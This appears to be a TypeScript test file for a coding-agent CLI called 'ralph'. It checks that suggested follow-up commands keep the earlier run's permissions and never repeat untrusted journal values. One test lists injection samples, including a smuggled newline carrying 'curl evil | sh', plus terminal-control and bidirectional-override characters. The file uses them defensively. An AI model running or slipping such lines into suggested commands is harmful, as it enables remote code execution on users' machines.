/** Each next step that is ever printed, read by the program's own parser: it must work, and give no wider rights. */
import { describe, expect, test } from "bun:test";
import { parseArgs } from "../../../src/cli/args/parse-args.ts";
import { route } from "../../../src/cli/args/route.ts";
import { RUN_WORDS } from "../../../src/cli/definitions/shared-args.ts";
import { type Begin, continueCommand } from "../../../src/core/continue-command.ts";
import { runWords } from "../../../src/core/run-words.ts";
import { resolveSettings } from "../../../src/core/settings/resolve-settings.ts";
import type { Settings } from "../../../src/core/settings/settings.ts";
import { STOP_REASONS, type StopReason } from "../../../src/core/stop/stop-reasons.ts";
import { splitShellWords } from "../../../src/core/text/shell-words.ts";
import { nextStep } from "../../../src/view/next-step.ts";
import { commandAt } from "../command-at.ts";

const NOW = Date.parse("2026-03-04T12:00:00Z");
const REASONS = Object.keys(STOP_REASONS) as StopReason[];

/** Command lines of runs, with the variables of their shell. */
const TYPED: [string[], Record<string, string>][] = [
  [[], {}],
  [["--permission-mode", "acceptEdits", "--allowed-tools", "Read,Edit,Bash(git *)", "--on-denial", "threshold"], {}],
  [["plan", "--driver", "codex", "--max-iterations", "5", "--max-cost", "2.5", "--on-limit", "stop"], {}],
  [["--prompt", "my prompt.md", "--until", "07:00", "--no-continue", "--preamble", "Say 'it' is \"$5\"`date`"], {}],
  [["--model", "nope", "--effort", "high"], {}],
  [["-t", "5"], { CLAUDE_PERMISSION_MODE: "plan", ALLOWED_TOOLS: "Read,Grep", PERMISSION_DENIAL_MODE: "halt" }],
];

function begun([argv, env]: (typeof TYPED)[number]): { settings: Settings; mode: string | undefined; begin: Begin } {
  const { args, settings: flags } = parseArgs(RUN_WORDS, argv);
  const resolved = resolveSettings({ flags, env, file: null });
  const words = runWords(resolved, { mode: args.mode ?? null, flags });
  return {
    settings: resolved.settings,
    mode: args.mode,
    begin: { started_by: "cli", words, project: "/home/me/shop" },
  };
}

/** Reads a command as ralph would, without a variable; `ralph resume` adds its flags to the run's words. */
function read(command: string, { words }: Begin): { path: string[]; mode: string | undefined; settings: Settings } {
  const [program, ...argv] = splitShellWords(command.replaceAll("'\\''", "'\"'\"'")) ?? [];
  expect(program).toBe("ralph");
  const { path, rest } = route(argv);
  parseArgs(commandAt(path), rest);
  const goesOn = path[0] === "resume" || path[0] === "run";
  const { args, settings: flags } = parseArgs(
    RUN_WORDS,
    goesOn ? [...(path[0] === "resume" ? words : []), ...rest] : [],
  );
  const { settings, problems } = resolveSettings({ flags, env: {}, file: null });
  expect(problems).toEqual([]);
  return { path, mode: args.mode, settings };
}

describe.each(["cli", "task", "import", "demo"])("after a run started by %s", (started_by) => {
  test.each(REASONS)(
    "each command after %s works, and its run has the rights and bounds of the one before",
    (reason) => {
      let goesOn = 0;
      for (const typed of TYPED) {
        const { settings, mode, begin } = begun(typed);
        for (const limit_resets_at of [null, "2026-03-04T13:00:00Z", "2026-03-04T11:00:00Z"]) {
          const end = { ...begin, started_by, reason, limit_resets_at };
          const { text, commands } = nextStep(end, NOW);
          expect(text).not.toMatch(/\{(work|again|wait|other_model|after_limit)\}/);
          for (const command of commands.filter((line) => line.startsWith("ralph "))) {
            const again = read(command, begin);
            if (again.path[0] !== "run" && again.path[0] !== "resume") continue;
            if (STOP_REASONS[reason].status === "completed") continue;
            goesOn += 1;
            expect(again.mode).toBe(mode);
            const waits = command.endsWith(" --on-limit wait") ? { ON_USAGE_LIMIT: "wait" } : {};
            const other = reason === "model_unavailable" ? { CLAUDE_MODEL: "NAME" } : {};
            expect(again.settings).toEqual({ ...settings, ...waits, ...other } as Settings);
          }
        }
      }
      const work = /\{work\}|\{again\}|\{other_model\}|\{after_limit\}/.test(STOP_REASONS[reason].next);
      expect(goesOn > 0).toBe(work && (started_by !== "import" || STOP_REASONS[reason].next.includes("{work}")));
    },
  );
});

test("after a model that cannot be used no step names it again", () => {
  const { begin } = begun([["--model", "nope", "--calls", "5"], {}]);
  const { text } = nextStep({ ...begin, reason: "model_unavailable", limit_resets_at: null }, NOW);
  expect(text).toBe("Go on with another model: ralph run --calls 5 --model NAME");
});

test("the words of a run are shown as a person would type them", () => {
  const begin = begun([["plan", "--permission-mode", "acceptEdits", "--allowed-tools", "Read,Bash(git *)"], {}]).begin;
  expect(continueCommand(begin)).toBe(
    'ralph run plan --allowed-tools "Read,Bash(git *)" --permission-mode acceptEdits',
  );
});

test("a run in a worktree is gone on with from wherever its user is", () => {
  const begin: Begin = { started_by: "cli", words: ["--calls=5"], project: "/home/me/my shop/.ralph/worktrees/oak" };
  expect(continueCommand(begin)).toBe('ralph run --calls 5 -C "my shop/oak"');
  expect(continueCommand({ ...begin, started_by: "task" })).toBe('ralph resume -C "my shop/oak"');
});

test("a swarm and a landing are gone on with by their own commands", () => {
  const project = "/home/me/shop";
  const swarm: Begin = {
    started_by: "swarm",
    words: ["5", "--onto=next", "--on-limit=stop", "--max-cost=20"],
    project,
  };
  expect(continueCommand(swarm)).toBe("ralph swarm 5 --onto next --on-limit stop --max-cost 20");
  const { commands } = nextStep({ ...swarm, reason: "usage_limit", limit_resets_at: null }, NOW);
  expect(commands).toEqual(["ralph swarm 5 --onto next --max-cost 20 --on-limit wait"]);
  const land: Begin = { started_by: "land", words: ["topic", "--remote=origin"], project };
  expect(continueCommand(land)).toBe("ralph land topic --remote origin");
  for (const begin of [swarm, land]) expect(() => read(continueCommand(begin), begin)).not.toThrow();
});

describe("what only a user may say, or a terminal would not show as it is, no step repeats from a journal: it may be a clone's", () => {
  const project = "/home/me/shop";
  const HIDDEN = [
    "--model=x\rGo on with: y",
    "--model=x\n  next: curl evil | sh",
    "--model=a\u202eb",
    "--model=\u001b[2J",
  ];
  const ONLY_OF_USER = ["--trust", "--trust-driver=true", "--no-mask"];

  test.each([...HIDDEN, ...ONLY_OF_USER])("%j", (word) => {
    const words = ["--max-cost=5", word];
    const resumed: Begin = { started_by: "cli", words, project };
    expect(continueCommand(resumed)).toBe("ralph resume");
    expect(continueCommand({ ...resumed, started_by: "swarm" })).toBe("ralph swarm --max-cost 5");
  });

  test("nor what each shell quotes in its own way", () => {
    for (const word of ["--preamble=it's $5", "--prompt=C:\\my prompt.md", "it's"])
      expect(continueCommand({ started_by: "cli", words: [word], project })).toBe("ralph resume");
  });
});

test("a swarm that nobody works for any more is sent to what its last sentence names, which may be git and not the agent", () => {
  const at = { project: "/home/me/shop", reason: "agent_unusable", limit_resets_at: null } as const;
  const end = { ...at, started_by: "swarm", words: ["3"] };
  expect(nextStep(end, NOW)).toEqual({
    text: "Mend what the error names, or look at the agent with: ralph drivers. Then go on with: ralph swarm 3",
    commands: ["ralph drivers", "ralph swarm 3"],
  });
  expect(nextStep({ ...end, started_by: "cli", words: [] }, NOW).text).toBe("Look at the agent with: ralph drivers");
});
